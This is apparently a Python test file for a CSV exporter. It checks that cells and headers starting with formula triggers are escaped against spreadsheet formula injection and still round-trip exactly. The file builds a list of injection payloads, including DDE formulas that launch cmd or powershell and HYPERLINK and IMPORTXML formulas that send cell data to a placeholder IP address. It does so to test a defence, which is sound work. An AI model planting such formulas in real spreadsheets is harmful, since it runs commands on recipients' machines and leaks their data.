"""Formulas in an exported CSV: whoever opens it in a spreadsheet runs what a seller wrote (CWE-1236, ATTACKS row 12).

`=cmd|'/c calc'!A0` opens a program, `=HYPERLINK(...)` sends cells to a stranger. Each cell and each header that begins
with a trigger gets one apostrophe in front, and so does what begins with an apostrophe already: taking one away gives
every cell back exactly.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from attacks import rounds
from prodcls.scoring_files import guarded, open_table

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""The six of OWASP; `MORE` are what some programs take for them, or skip before them."""

MORE = ("\n", "＝", "＋", "－", "＠")

BODIES = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://192.0.2.1/?x="&A1,"see")',
    "SUM(A1:A9)*cmd|'/C powershell'!A0",
    'IMPORTXML("http://192.0.2.1","//a")',
    'DDE("cmd";"/C calc";"x")',
    "WEBSERVICE(A1)",
    "",
    "'",
    '"',
    "=",
)

PAYLOADS = [trigger + body for trigger in (*TRIGGERS, *MORE) for body in BODIES]


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet may run a cell, as its first character decides."""
    return cell.startswith((*TRIGGERS, *MORE))


def taken_off(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def exported(folder: Path, names: list[str], rows: list[list[str]]) -> list[list[str]]:
    """Write a table as CSV and read it back, header first."""
    schema = pa.schema([(name, pa.string()) for name in names])
    with open_table(folder / "t.csv", schema) as write:
        write(pa.table([pa.array(column, pa.string()) for column in zip(*rows, strict=True)], schema=schema))
    return list(csv.reader(io.StringIO((folder / "t.csv").read_bytes().decode(), newline=""), strict=True))


def test_no_cell_and_no_header_runs_and_all_come_back(tmp_path: Path) -> None:
    names = [f"{payload}{i}" for i, payload in enumerate(PAYLOADS)]
    rows = [PAYLOADS, [f"{payload} " for payload in PAYLOADS], [f" {payload}" for payload in PAYLOADS]]
    read = exported(tmp_path, names, rows)
    assert sum(runs(cell) for row in read for cell in row) == 0
    assert [[taken_off(cell) for cell in row] for row in read] == [names, *rows]
    assert sum(cell.startswith("'") for row in read for cell in row) == 3 * len(PAYLOADS) + 0


@settings(max_examples=rounds(100, 10_000))
@given(st.lists(st.text(st.sampled_from("=+-@\t\r\n'\"＝,;|ab1 "), max_size=6), min_size=1, max_size=4))
def test_any_cells_come_back_exactly(tmp_path_factory: pytest.TempPathFactory, cells: list[str]) -> None:
    read = exported(tmp_path_factory.mktemp("csv"), [f"c{i}" for i in range(len(cells))], [cells])
    assert [taken_off(cell) for cell in read[1]] == cells
    assert not any(map(runs, read[1]))


def test_names_in_lists_cannot_run_either(tmp_path: Path) -> None:
    schema = pa.schema([("prediction_set", pa.list_(pa.string()))])
    with open_table(tmp_path / "t.csv", schema) as write:
        write(pa.table([[PAYLOADS]], schema=schema))
    ((_,), (cell,)) = csv.reader(io.StringIO((tmp_path / "t.csv").read_bytes().decode(), newline=""))
    assert not runs(cell)
    assert json.loads(cell) == PAYLOADS


def test_what_no_spreadsheet_opens_is_written_as_it_is(tmp_path: Path) -> None:
    schema = pa.schema([("c", pa.string())])
    for ending in (".parquet", ".jsonl"):
        with open_table(tmp_path / f"t{ending}", schema) as write:
            write(pa.table([PAYLOADS], schema=schema))
    assert pq.read_table(tmp_path / "t.parquet")["c"].to_pylist() == PAYLOADS
    lines = (tmp_path / "t.jsonl").read_bytes().decode().split("\n")[:-1]
    assert [json.loads(line)["c"] for line in lines] == PAYLOADS


def test_numbers_below_zero_stay_numbers(tmp_path: Path) -> None:
    schema = pa.schema([("p", pa.float64())])
    with open_table(tmp_path / "t.csv", schema) as write:
        write(pa.table([[-1.5]], schema=schema))
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").split() == ["p", "-1.5"]
    assert guarded("-1.5") == "'-1.5"
